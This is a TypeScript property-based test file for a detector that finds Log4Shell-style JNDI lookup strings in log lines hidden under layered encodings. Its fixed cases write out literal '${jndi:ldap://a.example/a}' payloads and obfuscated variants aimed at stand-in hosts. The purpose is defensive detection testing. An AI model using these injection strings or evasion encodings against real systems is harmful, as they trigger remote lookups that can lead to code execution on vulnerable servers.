import fc from 'fast-check'
import { expect, test } from 'vitest'
import { huntIn } from '../../test/kit/hunting.ts'
import { forms, type LookupForm, type LookupTarget } from '../lookup/index.ts'

/** Writes a text in escapes; `chosen` says which letters, where it leaves others as they are. */
type Wrap = (text: string, chosen: (index: number) => boolean) => string

const utf8 = new TextEncoder()

function hexOf(code: number, digits: number): string {
  return code.toString(16).padStart(digits, '0')
}

function bytesWith(text: string, write: (byte: number) => string): string {
  return [...utf8.encode(text)].map(write).join('')
}

function unitsWith(text: string, write: (unit: number) => string): string {
  return Array.from({ length: text.length }, (_, index) => write(text.charCodeAt(index))).join('')
}

/** Only some letters, and those that would be taken for escapes, or that are no ASCII. */
function partial(whole: (letter: string) => string, must: string): Wrap {
  return (text, chosen) =>
    Array.from(text, (letter, index) =>
      letter === must || letter > '~' || chosen(index) ? whole(letter) : letter,
    ).join('')
}

const names: Readonly<Record<string, string>> = {
  $: 'dollar',
  '{': 'lbrace',
  '}': 'rcub',
  ':': 'colon',
  '/': 'sol',
  '.': 'period',
  '&': 'amp',
  '-': '#45',
}

const percentUpper: Wrap = (text) => bytesWith(text, (byte) => `%${hexOf(byte, 2).toUpperCase()}`)
const percentLower: Wrap = (text) => bytesWith(text, (byte) => `%${hexOf(byte, 2)}`)
const percentUnits: Wrap = (text) => unitsWith(text, (unit) => `%u${hexOf(unit, 4)}`)
const backslashU: Wrap = (text) => unitsWith(text, (unit) => `\\u${hexOf(unit, 4).toUpperCase()}`)
const backslashX: Wrap = (text) => bytesWith(text, (byte) => `\\x${hexOf(byte, 2)}`)
const octal: Wrap = (text) => bytesWith(text, (byte) => `\\${byte.toString(8).padStart(3, '0')}`)
const jsonString: Wrap = (text) => JSON.stringify(text).slice(1, -1)
const htmlDecimal: Wrap = (text) => Array.from(text, (letter) => `&#${letter.codePointAt(0) ?? 0};`).join('')
const htmlHex: Wrap = (text) => Array.from(text, (letter) => `&#x${hexOf(letter.codePointAt(0) ?? 0, 1)};`).join('')
const htmlNamed: Wrap = (text) =>
  Array.from(text, (letter) => (names[letter] === undefined ? letter : `&${names[letter]};`)).join('')
const percentReserved: Wrap = (text) => encodeURIComponent(text)
const basic: Wrap = (text) => `Basic ${Buffer.from(text).toString('base64')}`

const none = (): boolean => false
const whole =
  (wrap: Wrap) =>
  (letter: string): string =>
    wrap(letter, none)

const wraps: Readonly<Record<string, Wrap>> = {
  percentUpper,
  percentLower,
  percentUnits,
  percentReserved,
  percentPartial: partial(whole(percentLower), '%'),
  percentUnitsPartial: partial(whole(percentUnits), '%'),
  backslashU,
  backslashUPartial: partial(whole(backslashU), '\\'),
  backslashX,
  backslashXPartial: partial(whole(backslashX), '\\'),
  octal,
  jsonString,
  htmlDecimal,
  htmlHex,
  htmlNamed,
  htmlPartial: partial(whole(htmlDecimal), '&'),
}

/** Those that a client may choose to leave letters out of; what wraps its text further on does not choose. */
const chosenByClients: readonly string[] = [
  'backslashUPartial',
  'backslashXPartial',
  'htmlPartial',
  'percentUnitsPartial',
]

/** Those that leave letters as they are, as what writes logs does: so the word before credentials can be read. */
const leavingLetters: readonly string[] = ['percentReserved', 'jsonString', 'htmlNamed']

/** Lines that hold what a client sent; what writes them escapes what it must. */
const lines: Readonly<Record<string, (text: string) => string>> = {
  plain: (text) => `2021-12-12 11:37:03,345 [http-8080-3] INFO  LoginController - Login failed for ${text} (3 times)`,
  combined: (text) =>
    `203.0.113.83 - - [12/Dec/2021:04:25:41 +0000] "GET /?q=a%20b HTTP/1.1" 200 612 "-" "${text.replace(/["\\]/g, '\\$&')}" "-"`,
  json: (text) => JSON.stringify({ ts: '2021-12-12T02:52:34Z', ua: text, url: 'http://a.example/?q=%7Ba%7D' }),
  jsonInJson: (text) =>
    JSON.stringify({ log: `${JSON.stringify({ message: `user ${text} failed` })}\n`, stream: 'stdout' }),
}

const hosts = fc.tuple(
  fc.string({
    unit: fc.constantFrom(...Array.from('abcdefghijklmnopqrstuvwxyz0123456789')),
    minLength: 1,
    maxLength: 20,
  }),
  fc.constantFrom('.example', '.evil.example', '.oast.example'),
)
const targets = fc.record({
  host: fc.oneof(
    hosts.map((parts) => parts.join('')),
    fc.constantFrom('203.0.113.7', '[2001:db8::7]'),
  ),
  port: fc.constantFrom(null, 389, 1389, 53),
  path: fc.string({ unit: fc.constantFrom(...Array.from('abcXYZ019/_-')), minLength: 1, maxLength: 12 }),
})

const cases: fc.Arbitrary<Case> = fc.record({
  form: fc.constantFrom(...forms),
  target: targets,
  scheme: fc.nat(3),
  credentials: fc.integer({ min: 0, max: 9 }).map((n) => n === 0),
  stack: fc.array(fc.constantFrom(...Object.keys(wraps)), { maxLength: 4 }),
  line: fc.constantFrom(...Object.keys(lines)),
  chosen: fc.array(fc.boolean(), { minLength: 7, maxLength: 31 }),
})

/** Longer ones are read in parts. */
const longest = 60_000

interface Case {
  readonly form: LookupForm
  readonly target: Pick<LookupTarget, 'host' | 'port' | 'path'>
  readonly scheme: number
  readonly credentials: boolean
  readonly stack: readonly string[]
  readonly line: string
  readonly chosen: readonly boolean[]
}

function placeOf({ form, target, scheme }: Case): LookupTarget {
  const host = form.needsZone ? 'abcdefghijklmnopqrst.cb.example' : target.host
  return { ...target, host, scheme: form.schemes[scheme % form.schemes.length] ?? 'ldap' }
}

/** The line, with the payload in the layers of the stack that `may` be there. */
function lineOf(each: Case, may: (name: string, index: number) => boolean): string {
  const { form, credentials, stack, line, chosen } = each
  const choose = (index: number): boolean => chosen[index % chosen.length] === true
  const payload = form.write(placeOf(each))
  const text = stack
    .filter((name, index) => (credentials ? leavingLetters.includes(name) : may(name, index)))
    .reduce(
      (inner, name) => (inner.length > longest ? inner : (wraps[name]?.(inner, choose) ?? inner)),
      credentials ? basic(payload, none) : payload,
    )
  return lines[line]?.(text) ?? text
}

test('any form in any stack of up to four layers is found, and resolved to the very name', { timeout: 120_000 }, () => {
  let hunted = 0
  fc.assert(
    fc.property(cases, (each) => {
      const written = lineOf(each, (name, index) => index === 0 || !chosenByClients.includes(name))
      fc.pre(written.length <= longest)
      hunted++
      const { findings } = huntIn(`first line\n${written}\nlast line\n`)

      const { form } = each
      const meanings = findings.filter(({ verdict }) => verdict === 'fires').map(({ lookup }) => lookup.meaning)
      expect(meanings).toContain(`jndi:${form.meaning(placeOf(each), form.firesOn.at(-1) ?? 'C')}`)
      expect(findings[0]?.firesOn).toEqual(form.firesOn)
    }),
    { numRuns: Number(process.env['RUNS'] ?? 1_000) },
  )
  expect(hunted).toBeGreaterThan(500)
})

test('where layers left letters as they were that those within need, it is found all the same', {
  timeout: 120_000,
}, () => {
  fc.assert(
    fc.property(cases, (each) => {
      const written = lineOf(each, () => true)
      fc.pre(written.length <= longest)

      expect(huntIn(written).findings).not.toEqual([])
    }),
    { numRuns: Number(process.env['RUNS'] ?? 500) },
  )
})

test.each([
  ['an octal digit in %u', '\\%u003044\\173jndi:ldap://a.example/a\\175'],
  ['a token with a blank', `${Buffer.from('{ "alg":"${jndi:ldap://a.example/a}"}').toString('base64url')}.e30.x`],
  ['base64 of the payload alone', `session=${Buffer.from('${jndi:ldap://a.example/a}').toString('base64')}; a=b`],
  ['base64 of one in another', `d=${Buffer.from('${${::-j}ndi:ldap://a.example/a}').toString('base64')}`],
  ['a word of a mail header', `Subject: =?utf-8?B?${Buffer.from('${jndi:ldap://a.example/a}').toString('base64')}?=`],
  ['escapes of Perl', '\\x{24}\\x{7b}jndi:ldap://a.example/a\\x{7d}'],
])('%s is found', (_what, written) => {
  expect(huntIn(`first line\n${written}\nlast line\n`).findings).toMatchObject([
    { at: { line: 2 }, verdict: 'fires', lookup: { host: 'a.example', path: 'a' } },
  ])
})
